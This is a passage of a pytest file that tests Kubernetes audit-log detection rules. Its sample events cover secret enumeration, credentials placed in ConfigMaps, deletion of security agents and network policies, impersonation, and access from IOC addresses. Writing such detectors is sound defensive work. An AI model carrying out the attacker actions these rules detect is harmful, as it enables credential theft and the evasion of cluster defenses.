    ("csr-approved", False, ev("update", "certificatesigningrequests", ns=None, name="csr-1", sub="approval", user="system:kube-controller-manager")),
    ("aws-auth-changed", True, ev("patch", "configmaps", ns="kube-system", name="aws-auth")),
    ("aws-auth-changed", False, ev("get", "configmaps", ns="kube-system", name="aws-auth")),
    # --- credentials ---------------------------------------------------------------------------
    ("secrets-listed-cluster-wide", True, ev("list", "secrets", ns=None, uri="/api/v1/secrets?limit=500")),
    ("secrets-listed-cluster-wide", True, ev("list", "secrets", ns=None, uri="/api/v1/secrets", user=BOB_SA)),
    ("secrets-listed-cluster-wide", False, ev("list", "secrets", ns="shop")),
    ("secrets-listed-cluster-wide", False, ev("list", "secrets", ns=None, uri="/api/v1/secrets?resourceVersion=0", user=sa("cert-manager", "cert-manager"))),
    ("secrets-listed", True, ev("list", "secrets", ns="shop")),
    ("secrets-listed", False, ev("list", "secrets", ns="shop", user=BOB_SA)),
    ("secret-read-cross-namespace", True, ev("get", "secrets", ns="billing", name="db", user=BOB_SA)),
    ("secret-read-cross-namespace", False, ev("get", "secrets", ns="shop", name="db", user=BOB_SA)),
    ("secret-read", True, ev("get", "secrets", ns="shop", name="db")),
    ("secret-read", False, ev("get", "secrets", ns="shop", name="db", user="system:node:n1")),
    ("secret-access-denied", True, ev("get", "secrets", ns="shop", name="db", user=BOB_SA, decision="forbid", code=403)),
    ("secret-access-denied", True, ev("get", "secrets", ns="shop", name="db", user="mallory", decision=None, code=401)),
    ("secret-access-denied", False, ev("get", "secrets", ns="shop", name="db", user=BOB_SA, code=404)),  # existence check
    ("secret-access-denied", False, ev("get", "secrets", ns="shop", name="db", user=BOB_SA)),
    ("secret-modified", True, ev("create", "secrets", ns="shop", name="s")),
    ("secret-modified", False, ev("create", "secrets", ns="kube-system", name="s")),
    ("configmap-credentials", True, ev("create", "configmaps", body={"kind": "ConfigMap", "metadata": {"name": "c"},
                                                                     "data": {"app.ini": "db_password = hunter2\n"}})),
    ("configmap-credentials", False, ev("create", "configmaps", body={"kind": "ConfigMap", "metadata": {"name": "c"},
                                                                      "data": {"ui.properties": "color=blue\n"}})),
    ("configmap-modified", True, ev("update", "configmaps", name="c")),
    ("configmap-modified", False, ev("update", "configmaps", name="c", user=BOB_SA)),
    # --- defense -----------------------------------------------------------------------------
    ("events-deleted", True, ev("deletecollection", "events", ns="shop")),
    ("events-deleted", False, ev("list", "events", ns="shop")),
    ("policy-engine-policy-deleted", True, ev("delete", "clusterpolicies", ns=None, name="disallow-privileged", group="kyverno.io")),
    ("policy-engine-policy-deleted", True, ev("delete", "constrainttemplates", ns=None, name="k8spsphostnamespace", group="templates.gatekeeper.sh")),
    ("policy-engine-policy-deleted", True, ev("delete", "validatingadmissionpolicybindings", ns=None, name="b", group="admissionregistration.k8s.io")),
    ("policy-engine-policy-deleted", False, ev("delete", "policyreports", ns="shop", name="r", group="wgpolicyk8s.io")),
    ("policy-engine-policy-changed", True, ev("patch", "k8spsphostnamespace", ns=None, name="c", group="constraints.gatekeeper.sh")),
    ("policy-engine-policy-changed", False, ev("update", "clusterpolicies", ns=None, name="p", sub="status", group="kyverno.io")),
    ("policy-exception-created", True, ev("create", "policyexceptions", ns="shop", group="kyverno.io")),
    ("policy-exception-created", False, ev("create", "clusterpolicies", ns=None, group="kyverno.io")),
    ("pod-security-label-weakened", True, ev("patch", "namespaces", ns=None, name="shop",
                                             body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}})),
    ("pod-security-label-weakened", True, ev("patch", "namespaces", ns=None, name="shop",
                                             body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": None}}})),
    ("pod-security-label-weakened", False, ev("patch", "namespaces", ns=None, name="shop",
                                              body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "restricted"}}})),
    ("pod-security-label-weakened", True, ev("patch", "namespaces", ns=None, name="shop", body=[
        {"op": "remove", "path": "/metadata/labels/pod-security.kubernetes.io~1enforce"}])),
    # a label merely absent is not removed: a plain namespace create or an unrelated label patch
    ("pod-security-label-weakened", False, ev("create", "namespaces", ns=None, name="shop",
                                              body={"kind": "Namespace", "metadata": {"name": "shop"}})),
    ("pod-security-label-weakened", False, ev("patch", "namespaces", ns=None, name="shop",
                                              body={"metadata": {"labels": {"team": "web"}}})),
    ("networkpolicy-deleted", True, ev("delete", "networkpolicies", name="deny-all", group="networking.k8s.io")),
    ("networkpolicy-deleted", True, ev("delete", "globalnetworkpolicies", ns=None, name="default-deny", group="crd.projectcalico.org")),
    ("networkpolicy-deleted", True, ev("delete", "ciliumclusterwidenetworkpolicies", ns=None, name="x", group="cilium.io")),
    ("networkpolicy-deleted", False, ev("delete", "networkpolicies", name="x", group="networking.k8s.io", code=404)),
    ("networkpolicy-changed", True, ev("patch", "ciliumnetworkpolicies", name="x", group="cilium.io")),
    ("networkpolicy-changed", True, ev("create", "networkpolicies", name="allow-all", group="networking.k8s.io")),
    ("networkpolicy-changed", False, ev("patch", "networkpolicies", name="x", group="networking.k8s.io",
                                        user=sa("argocd", "argocd-application-controller")), CFG),
    ("security-agent-tampering", True, ev("delete", "daemonsets", ns="falco", name="falco", group="apps")),
    ("security-agent-tampering", True, ev("patch", "daemonsets", ns="logging", name="fluent-bit", group="apps")),
    ("security-agent-tampering", False, ev("delete", "daemonsets", ns="shop", name="web", group="apps")),
    ("pod-security-violation", True, ev("create", "pods", annotations={"pod-security.kubernetes.io/audit-violations": "would violate PodSecurity \"baseline:latest\": privileged"})),
    ("pod-security-violation", False, ev("create", "pods")),
    # --- exposure --------------------------------------------------------------------------------
    ("nodeport-service", True, ev("create", "services", body={"kind": "Service", "spec": {"type": "NodePort", "ports": [{"port": 80, "nodePort": 30080}]}})),
    ("nodeport-service", True, ev("patch", "services", name="web", body={"spec": {"type": "NodePort"}})),
    ("nodeport-service", False, ev("create", "services", body={"kind": "Service", "spec": {"type": "ClusterIP"}})),
    ("loadbalancer-service", True, ev("create", "services", body={"kind": "Service", "spec": {"type": "LoadBalancer"}})),
    ("loadbalancer-service", False, ev("create", "services", body={"kind": "Service", "spec": {"type": "ClusterIP"}})),
    ("service-external-ips", True, ev("create", "services", body={"kind": "Service", "spec": {"externalIPs": ["8.8.8.8"]}})),
    ("service-external-ips", False, ev("create", "services", body={"kind": "Service", "spec": {"type": "ClusterIP"}})),
    # |exists holds for null and [] (the spec): the rule asks for an element, so clearing them is quiet
    ("service-external-ips", False, ev("patch", "services", body={"spec": {"externalIPs": None}})),
    ("service-external-ips", False, ev("update", "services", body={"kind": "Service", "spec": {"externalIPs": []}})),
    ("service-created", True, ev("create", "services", body={"kind": "Service", "spec": {}})),
    ("service-created", False, ev("create", "services", user="system:apiserver")),
    ("ingress-without-tls", True, ev("create", "ingresses", group="networking.k8s.io", body={"spec": {"rules": [{"host": "a.example"}]}})),
    ("ingress-without-tls", False, ev("create", "ingresses", group="networking.k8s.io", body={"spec": {"rules": [{"host": "a.example"}], "tls": [{"hosts": ["a.example"]}]}})),
    ("ingress-without-tls", True, ev("create", "ingresses", group="networking.k8s.io", body={"spec": {"rules": [{"host": "a.example"}], "tls": []}})),
    ("coredns-config-changed", True, ev("update", "configmaps", ns="kube-system", name="coredns")),
    ("coredns-config-changed", False, ev("update", "configmaps", ns="kube-system", name="coredns", user="system:kube-controller-manager")),
    ("serviceaccount-cross-namespace", True, ev("create", "pods", ns="billing", user=BOB_SA)),
    ("serviceaccount-cross-namespace", False, ev("create", "pods", ns="shop", user=BOB_SA)),
    # --- impact ----------------------------------------------------------------------------------
    ("resource-deleted", True, ev("delete", "deployments", name="web", group="apps")),
    ("resource-deleted", False, ev("delete", "deployments", name="web", group="apps", user=sa("kube-system", "generic-garbage-collector"))),
    ("namespace-deleted", True, ev("delete", "namespaces", ns=None, name="shop")),
    ("namespace-deleted", False, ev("delete", "namespaces", ns=None, name="shop", user=sa("kube-system", "namespace-controller"))),
    ("deletecollection", True, ev("deletecollection", "pods", ns="shop")),
    ("deletecollection", False, ev("deletecollection", "events", ns="shop")),
    ("delete-by-identity", True, ev("delete", "pods", name="p")),
    ("delete-by-identity", False, ev("delete", "leases", name="p")),
    ("workload-scaled-to-zero", True, ev("patch", "deployments", name="web", sub="scale", group="apps", body={"spec": {"replicas": 0}})),
    ("workload-scaled-to-zero", False, ev("patch", "deployments", name="web", sub="scale", group="apps", body={"spec": {"replicas": 3}})),
    ("workload-scaled-extreme", True, ev("patch", "deployments", name="web", sub="scale", group="apps", body={"spec": {"replicas": 500}})),
    ("workload-scaled-extreme", False, ev("patch", "deployments", name="web", sub="scale", group="apps", body={"spec": {"replicas": 5}})),
    ("quota-removed", True, ev("delete", "resourcequotas", name="q")),
    ("quota-removed", False, ev("delete", "configmaps", name="q")),
    # --- discovery -------------------------------------------------------------------------------
    ("selfsubject-review-by-serviceaccount", True, ev("create", "selfsubjectrulesreviews", ns=None, group="authorization.k8s.io", user=BOB_SA)),
    ("selfsubject-review-by-serviceaccount", True, ev("create", "selfsubjectaccessreviews", ns=None, group="authorization.k8s.io", user=BOB_SA)),
    ("selfsubject-review-by-serviceaccount", False, ev("create", "selfsubjectaccessreviews", ns=None, group="authorization.k8s.io", user=sa("kube-system", "x"))),
    ("selfsubject-review-by-serviceaccount", False, ev("create", "selfsubjectaccessreviews", ns=None, group="authorization.k8s.io")),
    ("selfsubject-review-by-node-or-anonymous", True, ev("create", "selfsubjectrulesreviews", ns=None, user="system:node:n1")),
    ("selfsubject-review-by-node-or-anonymous", False, ev("create", "selfsubjectrulesreviews", ns=None)),
    ("selfsubject-review-by-user", True, ev("create", "selfsubjectrulesreviews", ns=None)),
    ("selfsubject-review-by-user", False, ev("create", "selfsubjectrulesreviews", ns=None, user=BOB_SA)),
    ("sensitive-list-by-serviceaccount", True, ev("list", "secrets", ns="shop", user=BOB_SA)),
    ("sensitive-list-by-serviceaccount", False, ev("list", "secrets", ns="shop", user=BOB_SA, uri="/api/v1/namespaces/shop/secrets?resourceVersion=0")),
    # --- baselines: the selection only (learning and first-seen logic: tests/rules/test_baseline.py) ---------
    ("baseline-first-exec-by-identity", True, exec_ev("shop", "web-1", "ls")),
    ("baseline-first-exec-by-identity", True, exec_ev("shop", "web-1", "ls", verb="get", sub="attach")),
    ("baseline-first-exec-by-identity", False, exec_ev("shop", "web-1", "ls", code=403, decision="forbid")),
    ("baseline-first-exec-by-identity", False, ev("get", "pods", name="web-1", sub="log")),
    ("baseline-first-cluster-wide-secret-list", True, ev("list", "secrets", ns=None, user=sa("kube-system", "x"))),
    ("baseline-first-cluster-wide-secret-list", True, ev("watch", "secrets", ns=None, user=BOB_SA,
                                                          uri="/api/v1/secrets?resourceVersion=1&watch=true")),
    ("baseline-first-cluster-wide-secret-list", False, ev("list", "secrets", ns="shop", user=BOB_SA)),
    ("baseline-first-cluster-wide-secret-list", False, ev("list", "secrets", ns=None)),  # a person: secrets-listed-cluster-wide
    ("baseline-serviceaccount-new-network", True, ev("get", "configmaps", user=BOB_SA)),
    ("baseline-serviceaccount-new-network", False, ev("get", "configmaps", user=BOB_SA, code=403, decision="forbid")),
    ("baseline-serviceaccount-new-network", False, ev("get", "configmaps", user="system:node:n1")),
    ("baseline-first-workload-writer", True, ev("patch", "deployments", ns="shop", name="web", group="apps")),
    ("baseline-first-workload-writer", True, ev("create", "cronjobs", ns="shop", group="batch", user=BOB_SA, body=cronjob())),
    ("baseline-first-workload-writer", False, ev("update", "deployments", ns="shop", name="web", sub="status", group="apps", user=sa("kube-system", "deployment-controller"))),
    ("baseline-first-workload-writer", False, ev("patch", "deployments", ns="shop", name="web", group="apps", user=sa("kube-system", "x"))),
    ("baseline-new-client-for-person", True, ev("get", "secrets", name="db")),
    ("baseline-new-client-for-person", True, exec_ev("shop", "web-1", "ls")),
    ("baseline-new-client-for-person", True, ev("create", "rolebindings", ns="shop", group="rbac.authorization.k8s.io", body=binding("edit", {"kind": "User", "name": "x"}, kind="RoleBinding"))),
    ("baseline-new-client-for-person", False, ev("get", "secrets", name="db", user=BOB_SA)),
    ("baseline-new-client-for-person", False, ev("get", "configmaps", name="db")),
    ("baseline-person-new-network", True, ev("create", "serviceaccounts", ns="shop", name="x", sub="token")),
    ("baseline-person-new-network", False, ev("list", "rolebindings", ns="shop", group="rbac.authorization.k8s.io")),
    # --- issue 13: effective identity, network context, credential access by ServiceAccounts -----------------
    ("serviceaccount-impersonated-by-person", True, ev("list", "secrets", ns="kube-system", code=403,
                                                       imp={"username": sa("monitoring", "monitoring")})),
    ("serviceaccount-impersonated-by-person", True, ev("create", "selfsubjectaccessreviews", ns=None,
                                                       group="authorization.k8s.io", imp={"username": sa("web", "app")})),
    ("serviceaccount-impersonated-by-person", False, ev("list", "pods", imp={"username": "bob"})),
    ("serviceaccount-impersonated-by-person", False, ev("list", "pods", user=sa("pinniped", "proxy"),
                                                        imp={"username": sa("web", "app")})),
    ("selfsubject-review-by-serviceaccount", True, ev("create", "selfsubjectrulesreviews", ns=None,
                                                      group="authorization.k8s.io", imp={"username": sa("web", "app")})),
    ("selfsubject-review-by-serviceaccount", False, ev("create", "selfsubjectrulesreviews", ns=None,
                                                       group="authorization.k8s.io", user=sa("web", "app"),
                                                       imp={"username": "alice@example.com"})),
    ("serviceaccount-secret-access-denied", True, ev("get", "secrets", ns="shop", name="db", code=403,
                                                     decision="forbid", user=sa("shop", "web"))),
    ("serviceaccount-secret-access-denied", True, ev("list", "secrets", ns="kube-system", code=403, decision="forbid",
                                                     imp={"username": sa("monitoring", "monitoring")})),
    ("serviceaccount-secret-access-denied", False, ev("get", "secrets", ns="shop", name="db", code=403, decision="forbid")),
    ("serviceaccount-secret-access-denied", False, ev("get", "secrets", ns="shop", name="db", user=sa("shop", "web"))),
    ("serviceaccount-secret-access-denied", False, ev("get", "secrets", ns="kube-system", name="x", code=403,
                                                      decision="forbid", user=sa("kube-system", "coredns"))),
    ("cluster-credential-from-outside", True, ev("list", "secrets", user=sa("shop", "web"), ip="8.8.4.4"), NETS),
    ("cluster-credential-from-outside", False, ev("list", "secrets", user=sa("shop", "web"), ip="8.8.4.4")),
    ("cluster-credential-from-outside", True, ev("get", "nodes", ns=None, user="system:node:n1", ip="10.9.0.3"), NETS),
    ("cluster-credential-from-outside", False, ev("list", "secrets", user=sa("shop", "web"), ip="10.244.1.7")),
    ("cluster-credential-from-outside", False, ev("list", "secrets", user=sa("shop", "web"), ip="10.244.1.7"), NETS),
    ("cluster-credential-from-outside", False, ev("list", "secrets", user=sa("shop", "web"), ip="203.0.113.9"), NETS),
    ("cluster-credential-from-outside", False, ev("list", "secrets", ip="8.8.4.4")),
    ("person-from-untrusted-network", True, ev("delete", "deployments", ns="shop", name="web", group="apps",
                                               ip="8.8.4.4"), NETS),
    ("person-from-untrusted-network", True, ev("get", "secrets", ns="shop", name="db", ip="192.168.7.7"), NETS),
    ("person-from-untrusted-network", False, ev("get", "pods", ns="shop", name="web", ip="8.8.4.4"), NETS),
    ("person-from-untrusted-network", False, ev("get", "secrets", ns="shop", name="db", ip="203.0.113.20"), NETS),
    ("person-from-untrusted-network", False, ev("get", "secrets", ns="shop", name="db", ip="8.8.4.4")),
    ("ioc-source-address", True, ev("get", "pods", ip="185.220.101.4"), {"networks": {"ioc_file": str(IOC_FILE)}}),
    ("ioc-source-address", False, ev("get", "pods", ip="185.220.102.4"), {"networks": {"ioc_file": str(IOC_FILE)}}),
    ("ioc-source-address", False, ev("get", "pods", ip="185.220.101.4")),
    ("forbidden-from-public-address", True, ev("list", "secrets", code=403, decision="forbid", ip="8.8.4.4")),
    ("forbidden-from-public-address", False, ev("list", "secrets", code=403, decision="forbid", ip="10.1.1.1")),
    ("forbidden-from-public-address", False, ev("list", "secrets", code=403, decision="forbid", ip="203.0.113.20"),
     NETS),
]


@pytest.fixture(scope="module", autouse=True)
def _ioc_file():
    IOC_FILE.parent.mkdir(parents=True, exist_ok=True)
    IOC_FILE.write_text("# test IOC list\n185.220.101.0/24\n")
    yield
    IOC_FILE.unlink(missing_ok=True)


@pytest.fixture(scope="module")
def ruleset():
    return load_rules(builtin=True)


_configs: dict[int, Config] = {}


def _config(d: dict | None) -> Config:
    key = id(d)
    if key not in _configs:
        _configs[key] = Config.from_dict(d if d is not None else {})
    return _configs[key]


def _ids(case: tuple) -> str:
    return f"{case[0]}-{'fires' if case[1] else 'quiet'}"


@pytest.mark.parametrize("case", CASES, ids=[_ids(c) for c in CASES])
def test_rule_on_event(ruleset, case):
    name, should_fire, data = case[:3]
    config = _config(case[3] if len(case) > 3 else CFG)
    rule_obj = ruleset.get(name)
    assert rule_obj is not None, f"no built-in rule named {name}"
    event = event_from_dict(data, origin=f"case {name}")
    event.bind_context(config)
    assert rule_obj.matches(event) is should_fire, data


def test_every_event_rule_has_positive_and_negative_cases(ruleset):
    pos = {c[0] for c in CASES if c[1]}
    neg = {c[0] for c in CASES if not c[1]}
    event_rules = {r.name for r in ruleset.rules if r.kind == "event"}
    assert event_rules - pos == set(), "rules without a positive case"
    assert event_rules - neg == set(), "rules without a negative case"


def test_rule_metadata(ruleset):
    """Every rule: id, kebab name, Threat Matrix and ATT&CK tags, level, description, falsepositives."""
    import re

    for r in ruleset.rules:
        assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", r.name or ""), r
        assert r.techniques and all(re.fullmatch(r"MS-TA90\d\d", t) for t in r.techniques), r
        assert r.attack and all(re.fullmatch(r"T\d{4}(\.\d{3})?", t) for t in r.attack), r
        assert r.level in ("informational", "low", "medium", "high", "critical")
        assert r.description and len(r.description) > 40, r
        assert r.falsepositives, r
        if r.generate:
            assert r.message_template, f"{r.name} alerts without a message template"


def test_exec_gives_one_alert_per_audit_id(ruleset):
    """ResponseStarted and ResponseComplete of one exec share an auditID: one alert, the shell rule only."""
    detector = Detector(ruleset, _config(CFG))  # baselines still learning: they add nothing
    started = exec_ev("shop", "web-1", "bash")
    complete = dict(started, stage="ResponseComplete")
    names = [a.rule.name for d in (started, complete) for a in detector.process(event_from_dict(d))]
    assert names == ["pod-exec-shell"]


def test_denied_secret_burst_alerts_once_per_identity_in_its_ten_minutes(ruleset):
    """Issue 15: twelve denied reads by one identity within ten minutes gave two alerts."""
    det = Detector(ruleset)
    events = [event_from_dict(ev("get", "secrets", ns="shop", name=f"s{i}", user="mallory", decision="forbid",
                                 code=403, time=f"2025-06-03T10:{i // 2:02d}:{(i % 2) * 30:02d}.000000Z"))
              for i in range(12)]
    alerts = [a for a in det.alerts(events) if a.rule.name == "secret-access-denied-burst"]
    assert len(alerts) == 1 and alerts[0].correlation["count"] == 5
